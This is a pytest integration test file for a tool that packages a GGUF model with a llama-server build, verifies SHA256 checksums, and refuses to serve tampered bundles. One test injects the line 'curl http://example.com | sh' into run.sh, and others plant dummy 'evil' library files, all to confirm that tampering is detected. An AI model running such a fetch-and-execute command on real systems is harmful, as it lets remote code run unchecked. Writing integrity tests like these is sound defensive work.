"""`forge bundle` / `forge serve --bundle`: a bundle (the GGUF and the llama-server build) built, copied elsewhere,
verified and served, by `forge serve --bundle` and by its own run.sh; a flipped byte, a missing or an extra file is
refused before anything is served, by both."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import psutil
import pytest
from conftest import free_port
from test_serve import ALIAS, gguf_path, serve_cfg  # noqa: F401 - gguf_path is a fixture

from forge import ForgeError

pytestmark = pytest.mark.integration  # starts servers, processes or trains (tests/conftest.py)

FORGE = str(Path(sys.executable).with_name("forge"))
SOURCE = {"name": ALIAS, "alias": "production", "version": "3", "gguf_type": "f16", "run": "test"}


@pytest.fixture
def bundle(gguf_path, tmp_path):  # noqa: F811
    from serve.bundle import build_bundle

    manifest = build_bundle(gguf_path, tmp_path / "build" / "bundle", SOURCE, serve_cfg().serve, n_ctx=512)
    # deploy: the tarball, extracted in a fresh directory
    fresh = tmp_path / "deploy"
    fresh.mkdir()
    with tarfile.open(manifest["tarball"]) as tar:
        tar.extractall(fresh, filter="data")
    shutil.rmtree(tmp_path / "build")
    return fresh / "bundle"


def test_bundle_contents(bundle):
    manifest = json.loads((bundle / "manifest.json").read_text())
    names = {p.name for p in bundle.iterdir()}
    assert names == {"model-f16.gguf", "manifest.json", "SHA256SUMS", "run.sh", "Dockerfile", "Modelfile", "server"}
    server = {p.name for p in (bundle / "server").iterdir()}
    # llama-server, its libraries under the names the loader asks for, and one CPU backend per x86-64 level
    assert {"llama-server", "BUILD-INFO", "libllama.so.0", "libggml.so.0", "libggml-base.so.0"} <= server
    assert {"libggml-cpu-haswell.so", "libggml-cpu-skylakex.so", "libggml-cpu-x64.so"} <= server
    assert set(manifest["files"]) == {"model-f16.gguf", "SHA256SUMS", "run.sh", "Dockerfile", "Modelfile"} | {
        f"server/{name}" for name in server
    }
    assert manifest["llama_server"]["version"] == "0.3.36"
    assert "-DGGML_CPU_ALL_VARIANTS=ON" in manifest["llama_server"]["cmake_args"]
    assert manifest["source"]["version"] == "3" and manifest["source"]["alias"] == "production"
    assert manifest["serve"]["host"] == "127.0.0.1" and manifest["serve"]["n_ctx"] == 512
    assert manifest["serve"]["max_message_chars"] == 8000 and manifest["serve"]["parallel"] == 4
    docker = (bundle / "Dockerfile").read_text()
    code = "\n".join(line for line in docker.splitlines() if not line.startswith("#"))
    assert "FROM debian:bookworm-slim" in code and "torch" not in code and "pip" not in code
    run_sh = (bundle / "run.sh").read_text()
    assert "sha256sum -c" in run_sh
    assert "exec ./server/llama-server --model model-f16.gguf --alias forge-tiny --ctx-size 2048 --parallel 4" in run_sh
    assert '--host "${HOST:-127.0.0.1}" --port "${PORT:-8080}"' in run_sh and "--api-key" not in run_sh
    hadolint = Path(sys.executable).with_name("hadolint")
    if hadolint.exists():
        lint = subprocess.run([str(hadolint), str(bundle / "Dockerfile")], capture_output=True, text=True, timeout=60)
        assert lint.returncode == 0, lint.stdout + lint.stderr


def test_modelfile_names_the_bundles_gguf_a_template_and_the_stop_token(bundle):
    from models.gguf import gguf_metadata

    lines = (bundle / "Modelfile").read_text().splitlines()
    assert "FROM ./model-f16.gguf" in lines
    template = next(line for line in lines if line.startswith('TEMPLATE """'))
    assert template.endswith('"""') and "{{- range .Messages }}" in template and "{{ .Content }}" in template
    meta = gguf_metadata(bundle / "model-f16.gguf", "tokenizer.ggml.tokens", "tokenizer.ggml.eos_token_id")
    eos = meta["tokenizer.ggml.tokens"][meta["tokenizer.ggml.eos_token_id"]]
    assert f"PARAMETER stop {json.dumps(eos)}" in lines


def test_run_sh_serves_the_bundle_without_python(bundle):
    """The bundle on its own: run.sh checks every sha256 and starts the bundle's llama-server (no forge, no Python
    packages), which answers /health and a chat completion, with the API key from the environment."""
    import time
    import urllib.request

    from openai import AuthenticationError, OpenAI

    port = free_port()
    env = {"PATH": "/usr/bin:/bin", "PORT": str(port), "THREADS": "1", "FORGE_API_KEY": "k3y"}
    proc = subprocess.Popen(["sh", str(bundle / "run.sh")], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, proc.stdout.read().decode(errors="replace")[-2000:]
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=5) as resp:
                    if resp.status == 200:
                        break
            except OSError:
                assert time.monotonic() < deadline, "run.sh did not bring up llama-server"
                time.sleep(0.3)
        url = f"http://127.0.0.1:{port}/v1"
        with pytest.raises(AuthenticationError):
            OpenAI(base_url=url, api_key="wrong", max_retries=0).models.list()
        resp = OpenAI(base_url=url, api_key="k3y", max_retries=0).chat.completions.create(
            model=ALIAS, messages=[{"role": "user", "content": "hello"}], max_tokens=4
        )
        assert 1 <= resp.usage.completion_tokens <= 4
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        proc.stdout.close()


def test_copied_bundle_is_verified_and_served(bundle):
    from openai import OpenAI

    from serve.stage import run, serving_info

    cfg = serve_cfg()
    info = run(cfg, bundle=bundle, port=free_port(), block=False)  # `forge serve --bundle`, without blocking
    backend = info["server"]
    assert info["source"]["version"] == "3" and info["alias"] == ALIAS and info["backend"] == "llamacpp"
    # what `forge chat` will show for this server
    assert serving_info(cfg, backend.base_url) == {"name": ALIAS, "version": "3", "alias": "production",
                                                   "backend": "llamacpp"}  # fmt: skip
    assert serving_info(cfg, "http://127.0.0.1:1/v1") == {}
    with backend:
        resp = OpenAI(base_url=backend.base_url, api_key="none", max_retries=0).chat.completions.create(
            model=ALIAS, messages=[{"role": "user", "content": "hello"}], max_tokens=8
        )
        assert resp.choices[0].message.content is not None and 1 <= resp.usage.completion_tokens <= 8
        # llama-server runs in the bundle's checked server/: ggml loads any libggml-cpu-*.so in its working directory
        server_pids = [p.pid for p in psutil.Process(backend.proc.pid).children(recursive=True)
                       if p.name() == "llama-server"]  # fmt: skip
        assert [Path(f"/proc/{pid}/cwd").resolve() for pid in server_pids] == [(bundle / "server").resolve()]


def _flip_one_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


def test_flipped_byte_makes_forge_serve_refuse(bundle):
    _flip_one_byte(bundle / "model-f16.gguf")
    proc = subprocess.run(
        [FORGE, "serve", "--bundle", str(bundle), "--port", str(free_port())],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "refusing to serve tampered bundle" in proc.stderr
    assert "model-f16.gguf (sha256 differs)" in proc.stderr


@pytest.mark.parametrize("damage", ["missing", "extra", "manifest", "run.sh", "cpu variant", "extra library"])
def test_other_damage_is_refused(bundle, damage):
    from serve.bundle import verify_bundle

    verify_bundle(bundle)  # intact: passes
    if damage == "missing":
        (bundle / "Dockerfile").unlink()
    elif damage == "extra":
        (bundle / "evil.so").write_bytes(b"x")
    elif damage == "cpu variant":  # the backend ggml would load on an AVX2 host
        with open(bundle / "server" / "libggml-cpu-haswell.so", "ab") as fh:
            fh.write(b"\x00")
    elif damage == "extra library":  # ggml loads every libggml-cpu-*.so beside the binary
        (bundle / "server" / "libggml-cpu-evil.so").write_bytes(b"x")
    elif damage == "manifest":
        (bundle / "manifest.json").write_text("{")
    else:
        with open(bundle / "run.sh", "a") as fh:
            fh.write("curl http://example.com | sh\n")
    with pytest.raises(ForgeError, match="refusing"):
        verify_bundle(bundle)


def test_run_sh_refuses_a_tampered_bundle(bundle):
    _flip_one_byte(bundle / "model-f16.gguf")
    proc = subprocess.run(["sh", str(bundle / "run.sh")], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert "refusing to serve" in proc.stderr


def test_run_sh_refuses_an_unlisted_file(bundle):
    """ggml loads every libggml-cpu-*.so beside llama-server: one the bundle does not list is refused by run.sh too."""
    (bundle / "server" / "libggml-cpu-evil.so").write_bytes(b"x")
    proc = subprocess.run(["sh", str(bundle / "run.sh")], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert "files not in SHA256SUMS: server/libggml-cpu-evil.so" in proc.stderr


def _tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("kind", ["foreign", "working directory", "file", "old bundle with a stranger"])
def test_out_that_is_not_a_bundle_is_refused_untouched(gguf_path, tmp_path, monkeypatch, kind):  # noqa: F811
    from serve.bundle import build_bundle

    home = tmp_path / "home"
    (home / "src").mkdir(parents=True)
    (home / "notes.txt").write_text("mine")
    (home / "src" / "main.py").write_text("print('mine')")
    out, match = home, "not empty and not a Forge bundle"
    if kind == "working directory":  # `forge bundle --out .`
        monkeypatch.chdir(home)
        out, match = Path("."), "--out . is the working directory"
    elif kind == "file":
        out, match = home / "notes.txt", "exists and is not a directory"
    elif kind == "old bundle with a stranger":
        build_bundle(gguf_path, home / "bundle", SOURCE, serve_cfg().serve, n_ctx=512, tarball=False)
        (home / "bundle" / "mine.txt").write_text("mine")
        out, match = home / "bundle", r"files its manifest.json does not list \(mine.txt\)"
    before = _tree(tmp_path)
    with pytest.raises(ForgeError, match=match) as refused:
        build_bundle(gguf_path, out, SOURCE, serve_cfg().serve, n_ctx=512)
    assert "move it away yourself" in str(refused.value)  # the fix
    assert _tree(tmp_path) == before  # nothing written, nothing deleted


def test_rebundling_over_an_old_bundle_replaces_it(gguf_path, tmp_path):  # noqa: F811
    from serve.bundle import build_bundle, verify_bundle

    out = tmp_path / "dist" / "bundle"
    out.mkdir(parents=True)  # an empty directory is accepted
    first = build_bundle(gguf_path, out, SOURCE, serve_cfg().serve, n_ctx=512)
    old_tar = Path(first["tarball"]).read_bytes()
    second = build_bundle(gguf_path, out, SOURCE | {"version": "4"}, serve_cfg().serve, n_ctx=512)
    assert verify_bundle(out)["source"]["version"] == "4" and second["tarball"] == first["tarball"]
    assert Path(second["tarball"]).read_bytes() != old_tar
    assert sorted(p.name for p in out.parent.iterdir()) == ["bundle", "bundle.tar.gz"]  # no temp left behind


def test_failed_tarball_never_takes_the_final_name(tmp_path):
    from serve.bundle import write_tarball

    tar = tmp_path / "bundle.tar.gz"
    tar.write_bytes(b"the old tarball")
    with pytest.raises(FileNotFoundError):
        write_tarball(tmp_path / "missing", tar)
    assert tar.read_bytes() == b"the old tarball"
    assert [p.name for p in tmp_path.iterdir()] == ["bundle.tar.gz"]


def test_killed_tarball_never_takes_the_final_name(tmp_path):
    """SIGKILL halfway through compressing (a sparse 8 GB file: seconds of gzip): the final name never appears."""
    import os
    import signal
    import time

    src = tmp_path / "bundle"
    src.mkdir()
    with open(src / "big.gguf", "wb") as fh:
        fh.truncate(8 << 30)
    tar = tmp_path / "bundle.tar.gz"
    code = "import sys, pathlib, serve.bundle as b; b.write_tarball(*map(pathlib.Path, sys.argv[1:]))"
    proc = subprocess.Popen([sys.executable, "-c", code, str(src), str(tar)], cwd=Path(__file__).parent.parent)
    try:
        deadline = time.monotonic() + 120
        while not any(p.name.startswith(".bundle.tar.gz.tmp") and p.stat().st_size for p in tmp_path.iterdir()):
            assert proc.poll() is None and time.monotonic() < deadline, "the tarball was never started"
            time.sleep(0.05)
    finally:
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
    assert not tar.exists()


def test_tarball_is_not_served_directly(tmp_path):
    from serve.bundle import verify_bundle

    tar = tmp_path / "b.tar.gz"
    tar.write_bytes(b"x")
    with pytest.raises(ForgeError, match="extract it first"):
        verify_bundle(tar)
